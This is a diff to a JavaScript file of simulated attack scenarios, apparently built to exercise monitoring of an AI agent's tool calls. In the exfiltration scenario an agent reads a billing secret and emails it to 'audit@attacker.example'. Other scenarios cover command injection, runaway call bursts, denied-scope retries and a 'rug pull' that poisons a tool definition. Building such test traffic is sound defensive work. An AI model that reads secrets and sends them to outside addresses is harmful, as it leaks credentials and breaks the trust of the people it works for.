@@ -55,7 +55,7 @@ const SCENARIOS = {
     const ws = await run.http(DEMO_TOKENS.supportAgent);
     await run.prompt('Summarise ticket T-2003', async () => {
       await run.call(crm, 'search_tickets', { query: 'T-2003', state: 'any' });
-      await run.call(crm, 'get_config', { service: 'billing' });
+      await run.call(crm, 'read_secret', { service: 'billing' });
       const config = serviceConfig('billing');
       await run.call(ws, 'send_email', {
         to: 'audit@attacker.example',
@@ -68,18 +68,15 @@ const SCENARIOS = {
     await crm.close();
   },
 
-  /** A burst of calls far above the session's usual rate. */
+  /** A runaway loop: the same call, over and over, far above the client's usual rate. */
   async burst(run) {
-    const crm = await run.stdio();
-    await run.prompt('Export every customer, fast', async () => {
-      const ids = ['C-1001', 'C-1002', 'C-1003'];
-      for (let wave = 0; wave < 8; wave += 1) {
-        await Promise.all(
-          Array.from({ length: 6 }, (_, i) => run.call(crm, 'get_customer', { customer_id: ids[(wave + i) % ids.length] })),
-        );
+    const ws = await run.http(DEMO_TOKENS.supportAgent);
+    await run.prompt('Keep refreshing the weekly report until it changes', async () => {
+      for (let wave = 0; wave < 6; wave += 1) {
+        await Promise.all(Array.from({ length: 5 }, () => run.call(ws, 'run_report', { report: 'weekly-tickets', team: 'support' })));
       }
     });
-    await crm.close();
+    await ws.close();
   },
 
   /** A client without the scope keeps trying a tool it is not allowed to use. */
@@ -129,7 +126,11 @@ function lastThreeAm(now = new Date()) {
   return t.toISOString();
 }
 
-/** `all` runs normal traffic first so baselines exist before the attacks. */
-const ORDER = ['normal', 'command-injection', 'exfiltration', 'burst', 'denied', 'rug-pull', 'off-hours'];
+/**
+ * `all` runs normal traffic first so baselines exist before the attacks, and the rug pull last:
+ * after it, the poisoned definition is the "last seen" one, and any later session with the
+ * original server would look like a second redefinition.
+ */
+const ORDER = ['normal', 'command-injection', 'exfiltration', 'burst', 'denied', 'off-hours', 'rug-pull'];
 
 module.exports = { ORDER, SCENARIOS, lastThreeAm };
